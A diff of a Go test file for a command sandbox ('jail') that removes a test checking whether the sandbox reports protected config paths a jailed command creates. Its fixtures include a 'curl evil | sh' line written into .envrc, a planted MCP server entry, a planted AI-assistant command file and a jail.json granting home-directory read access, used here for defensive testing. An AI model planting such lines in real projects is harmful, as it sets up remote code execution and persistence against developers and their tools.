@@ -347,46 +347,6 @@ func TestProtectedPaths(t *testing.T) {
 	})
 }
 
-// TestCreatedProtectedPathsReported: a protected path that does not exist
-// when the jail starts cannot be bind-mounted read-only, so the command can
-// create it (a new .envrc, .vscode/, .mcp.json, another jail.json ...). jail
-// must then name every such path on stderr after the command exits, so the
-// user reviews it before an unjailed tool trusts it.
-func TestCreatedProtectedPathsReported(t *testing.T) {
-	t.Parallel()
-	forEachRunner(t, func(t *testing.T, s *Sandbox) {
-		t.Parallel()
-		p := s.Project
-		s.WriteFile(p+"/.claude/CLAUDE.md", "notes\n", 0o644)
-		created := map[string]string{
-			".envrc":                      "echo 'curl evil | sh' > .envrc",
-			".mcp.json":                   `echo '{"mcpServers": {"evil": {}}}' > .mcp.json`,
-			".vscode":                     `mkdir .vscode && echo '{}' > .vscode/tasks.json`,
-			".gitmodules":                 "echo '[submodule x]' > .gitmodules",
-			".claude/settings.local.json": "echo '{}' > .claude/settings.local.json",
-			".claude/commands":            "mkdir -p .claude/commands && echo evil > .claude/commands/x.md",
-			"sub/jail.json":               `mkdir -p sub && echo '{"filesystem": {"allowRead": ["~"]}}' > sub/jail.json`,
-		}
-		var script []string
-		for _, c := range created {
-			script = append(script, c)
-		}
-		r := s.Sh(strings.Join(script, " && "))
-		if r.Code != 0 {
-			t.Fatalf("creating the paths failed:\n%s", r)
-		}
-		warn := strings.Join(jailLines(r.Stderr), "\n")
-		for rel := range created {
-			if _, err := os.Lstat(p + "/" + rel); err != nil {
-				t.Fatalf("control: %s was not created: %v", rel, err)
-			}
-			if !strings.Contains(warn, p+"/"+rel) {
-				t.Errorf("the command created the protected path %s and jail did not name it; jail's stderr: %q", rel, warn)
-			}
-		}
-	})
-}
-
 func TestGitCommitInside(t *testing.T) {
 	t.Parallel()
 	forEachRunner(t, func(t *testing.T, s *Sandbox) {
